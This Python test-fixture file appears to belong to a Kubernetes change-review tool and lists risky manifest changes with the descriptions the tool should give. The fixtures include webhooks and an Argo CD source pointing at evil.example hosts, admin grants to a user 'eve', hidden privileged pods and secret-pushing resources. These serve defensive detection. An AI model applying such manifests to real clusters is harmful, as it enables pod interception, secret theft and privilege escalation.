"""Rows about the cluster, and about objects inside of others."""

import json

from .objects import (
    POD,
    at,
    binding,
    made,
    somebody,
)
from .row import Row, W, changed

WEBHOOK = made(
    "admissionregistration.k8s.io/v1",
    "MutatingWebhookConfiguration",
    "inject",
    None,
    webhooks=[
        {
            "name": "a.evil.example",
            "failurePolicy": "Ignore",
            "clientConfig": {"url": "https://evil.example"},
            "rules": [{"operations": ["CREATE"], "resources": ["pods"]}],
        }
    ],
)
CRD = made(
    "apiextensions.k8s.io/v1",
    "CustomResourceDefinition",
    "t.x.dev",
    None,
    spec={"group": "x.dev", "names": {"kind": "T"}, "versions": [{"name": "v1"}]},
)
NS = made("v1", "Namespace", "shop", None, metadata={"labels": {"pod-security.kubernetes.io/enforce": "restricted"}})
HPA = made("autoscaling/v2", "HorizontalPodAutoscaler", spec={"maxReplicas": 10}, status={"currentReplicas": 6})
PDB = made("policy/v1", "PodDisruptionBudget", spec={"minAvailable": 1})
DAEMONS = made("apps/v1", "DaemonSet", spec={"template": {"spec": {"containers": []}}})
PV = made("v1", "PersistentVolume", "pv", None, spec={"claimRef": {"namespace": "a", "name": "b"}})
SIGNING = made(
    "certificates.k8s.io/v1",
    "CertificateSigningRequest",
    "x",
    None,
    spec={"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
)
CLUSTER = [
    Row(
        "webhook", None, WEBHOOK, "a.evil.example calls https://evil.example for CREATE of pods (failurePolicy Ignore)"
    ),
    Row(
        "webhook",
        WEBHOOK,
        at(WEBHOOK, "webhooks 0 failurePolicy", "Fail"),
        "changes MutatingWebhookConfiguration inject",
    ),
    Row("webhook", WEBHOOK, None, "deletes MutatingWebhookConfiguration inject"),
    Row("policy-engine", None, made("kyverno.io/v1", "ClusterPolicy", "p", None, spec={}), "what the cluster accepts"),
    Row(
        "pod-policy",
        None,
        made("security.openshift.io/v1", "SecurityContextConstraints", "p", None),
        "what pods may do",
    ),
    Row(
        "api-service",
        None,
        made(
            "apiregistration.k8s.io/v1",
            "APIService",
            "v1.metrics",
            None,
            spec={"group": "metrics", "version": "v1", "service": {"namespace": "a", "name": "b"}},
        ),
        "v1 of metrics is served by a/b",
    ),
    Row(
        "definition",
        CRD,
        at(CRD, "spec versions 0 schema", {"openAPIV3Schema": {}}),
        "changes CustomResourceDefinition t.x.dev",
    ),
    Row("definition", CRD, at(CRD, "spec preserveUnknownFields", True), "what the objects of a kind hold and keep"),
    Row("definition", None, CRD, "T of x.dev in v1", W),
    Row(
        "conversion",
        None,
        at(CRD, "spec conversion webhook clientConfig", {"url": "https://evil.example"}),
        "passes through https://evil.example",
    ),
    Row(
        "node",
        made("v1", "Node", "n1", None, spec={}),
        made("v1", "Node", "n1", None, spec={"unschedulable": True}),
        "changes Node n1",
    ),
    Row(
        "cluster-policy",
        None,
        made("node.k8s.io/v1", "RuntimeClass", "r", None, handler="x"),
        "holds for the whole cluster",
    ),
    Row(
        "class",
        made("storage.k8s.io/v1", "StorageClass", "s", None, provisioner="a"),
        made("storage.k8s.io/v1", "StorageClass", "s", None, provisioner="b"),
        "holds for all that name it",
    ),
    Row(
        "limits",
        made("v1", "ResourceQuota", spec={"hard": {"pods": 1}}),
        made("v1", "ResourceQuota", spec={"hard": {"pods": 100}}),
        "changes ResourceQuota web",
        W,
    ),
    Row("limits", made("v1", "LimitRange", spec={}), None, "deletes LimitRange web"),
    Row("volume", PV, at(PV, "spec capacity", {"storage": "1Gi"}), "storage of the cluster"),
    Row(
        "volume-claim",
        PV,
        at(PV, "spec claimRef", {"namespace": "evil", "name": "b"}),
        "gives volume pv to claim evil/b",
    ),
    Row("signing-request", None, SIGNING, "signer kubernetes.io/kube-apiserver-client, usages client auth"),
    Row("approval", SIGNING, at(SIGNING, "status conditions", [{"type": "Approved"}]), "approves the certificate"),
    Row("trust", None, made("certificates.k8s.io/v1beta1", "ClusterTrustBundle", "t", None), "who is trusted"),
    Row("token", None, made("authentication.k8s.io/v1", "TokenRequest"), "a token to sign in with"),
    Row(
        "secret-store",
        made("external-secrets.io/v1", "SecretStore", spec={}),
        made("external-secrets.io/v1", "SecretStore", spec={"provider": {}}),
        "where secrets come from",
    ),
    Row("push", None, made("external-secrets.io/v1alpha1", "PushSecret", spec={}), "sends secrets out of the cluster"),
    Row(
        "deployers",
        None,
        made(
            "argoproj.io/v1alpha1",
            "Application",
            spec={
                "source": {"repoURL": "https://git.evil.example/x", "path": "p"},
                "destination": {"server": "https://k"},
            },
        ),
        "from https://git.evil.example/x p, to https://k",
    ),
    Row(
        "pod-security",
        NS,
        at(NS, "metadata labels", {"pod-security.kubernetes.io/enforce": "baseline"}),
        "enforce restricted -> baseline",
    ),
    Row(
        "pod-security",
        None,
        at(NS, "metadata labels", {"pod-security.kubernetes.io/enforce": "privileged"}),
        "not set -> privileged",
    ),
    Row(
        "namespace",
        NS,
        at(NS, "metadata labels", {**NS["metadata"]["labels"], "team": "x"}),
        "changes namespace shop (labels)",
    ),
    Row("system", None, made("apps/v1", "DaemonSet", "x", "kube-system"), "creates DaemonSet x of the cluster itself"),
    Row(
        "system",
        made("v1", "ConfigMap", "argocd-rbac-cm", "argocd"),
        made("v1", "ConfigMap", "argocd-rbac-cm", "argocd", data={"policy.csv": "g, eve, role:admin"}),
        "argocd-rbac-cm, which configures",
    ),
    Row(
        "default-priority",
        None,
        made("scheduling.k8s.io/v1", "PriorityClass", "p", None, globalDefault=True, value=10),
        "every pod without a priority",
    ),
    changed("critical-pods", f"{POD} priorityClassName", "system-node-critical", "may evict all others"),
    Row(
        "secret",
        None,
        made(
            "v1",
            "Secret",
            type="kubernetes.io/service-account-token",
            metadata={"annotations": {"kubernetes.io/service-account.name": "admin"}},
        ),
        "lasting token of ServiceAccount shop/admin",
    ),
    Row(
        "account-secrets",
        made("v1", "ServiceAccount"),
        made("v1", "ServiceAccount", imagePullSecrets=[{"name": "reg"}]),
        "may use reg (imagePullSecrets)",
    ),
    Row("smaller-autoscaler", HPA, at(HPA, "spec maxReplicas", 2), "stops what is beyond 2 replicas"),
    Row("disruption-budget", PDB, at(PDB, "spec minAvailable", 0), "may be evicted at once"),
    Row("disruption-budget", PDB, None, "may be evicted at once"),
    Row(
        "daemon-nodes",
        DAEMONS,
        at(DAEMONS, "spec template spec nodeSelector", {"none": "here"}),
        "on all nodes without none=here",
    ),
    Row(
        "too-large",
        None,
        made("v1", "ConfigMap", data={str(at): "x" for at in range(100_001)}),
        "too large to be judged",
    ),
]
PRIVILEGED_POD = made(
    "v1", "Pod", spec={"containers": [{"name": "c", "image": "x", "securityContext": {"privileged": True}}]}
)
DEEP = PRIVILEGED_POD
for _ in range(6):
    DEEP = made("example.dev/v1", "Thing", spec={"inner": DEEP})
UNREADABLE = "apiVersion: v1\nkind: Pod\nspec: {containers: [{securityContext: {privileged: true}}]}\n{{ end }} }"
TARGET = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"}
SMALL = made("autoscaling/v2", "HorizontalPodAutoscaler", spec={"maxReplicas": 1, "scaleTargetRef": TARGET})
BIG = {"spec": {"replicas": 9}}
SETS = [made("apps/v1", "StatefulSet", spec={"ordinals": {"start": start}}) for start in (0, 3)]
NESTED = [
    Row("new-autoscaler", None, SMALL, "beyond 1 of 9 replicas", live={("Deployment", "shop", "web"): BIG}),
    Row("new-autoscaler", None, SMALL, "not known whether Deployment web has more than 1 replicas"),
    Row(
        "ordinals",
        made("apps/v1", "StatefulSet", spec={}),
        made("apps/v1", "StatefulSet", spec={"ordinals": {"start": 3}}),
        "from 3 on",
    ),
    Row("too-large", None, DEEP, "nested more deeply"),
    Row("too-large", None, made("v1", "ConfigMap", data={"a": UNREADABLE}), "cannot be read (data.a)"),
    Row(
        "empty-quota",
        made("v1", "ResourceQuota", spec={"hard": {"pods": 9}}),
        made("v1", "ResourceQuota", spec={"hard": {"pods": "0"}}),
        "nothing more of pods",
    ),
    Row(
        "privileged-hostProcess",
        None,
        made(
            "example.dev/v1",
            "Thing",
            spec={"deep": [{"er": {"containers": [{"name": "c", "securityContext": {"privileged": True}}]}}]},
        ),
        "containers[c].securityContext.privileged",
    ),
    Row(
        "privileged-hostProcess",
        None,
        made("example.dev/v1", "Thing", spec={"forProvider": {"manifest": PRIVILEGED_POD}}),
        "spec.forProvider.manifest: Pod a container",
    ),
    Row(
        "privileged-hostProcess",
        None,
        made("v1", "ConfigMap", data={"pod.json": json.dumps(PRIVILEGED_POD)}),
        "data.pod.json: Pod a container",
    ),
    Row(
        "binding",
        None,
        made(
            "example.dev/v1",
            "Thing",
            spec={"items": [binding("ClusterRole", "cluster-admin", somebody("eve"), kind="ClusterRoleBinding")]},
        ),
        "to User eve",
    ),
]
